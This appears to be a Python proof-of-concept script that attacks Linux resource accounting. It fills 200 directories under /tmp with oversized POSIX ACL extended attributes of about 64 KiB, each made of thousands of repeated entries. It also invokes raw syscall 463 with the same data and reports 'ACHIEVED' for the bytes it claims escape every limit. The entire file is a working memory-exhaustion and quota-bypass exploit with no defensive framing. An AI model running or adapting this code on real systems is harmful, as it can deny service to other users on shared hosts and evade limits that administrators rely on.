import ctypes
import os
import struct

# A list of rights may be 64 KiB long, and the kernel charges nobody for it.
SOME, ALL = 8000, 0xFFFFFFFF
rights = struct.pack("<I", 2) + struct.pack("<HHI", 1, 7, ALL) + struct.pack("<HHI", 2, 7, os.getuid()) * SOME
rights += b"".join(struct.pack("<HHI", tag, 7, ALL) for tag in (4, 0x10, 0x20))
kept = 0
for number in range(200):
    place = f"/tmp/folder-{number}"
    os.mkdir(place)
    folder = os.open(place, os.O_RDONLY)
    for target in (place, folder):
        for name in ("system.posix_acl_access", "system.posix_acl_default"):
            try:
                os.setxattr(target, name, rights)
                kept += len(rights)
            except OSError:
                pass
    os.close(folder)
libc = ctypes.CDLL(None, use_errno=True)
arguments = struct.pack("<QII", ctypes.addressof(ctypes.create_string_buffer(rights)), len(rights), 0)
if libc.syscall(463, -100, b"/tmp/folder-0", 0, b"system.posix_acl_access", arguments, 16) == 0:
    kept += len(rights)
if kept:
    print("ACHIEVED", kept, "bytes that no limit counts")
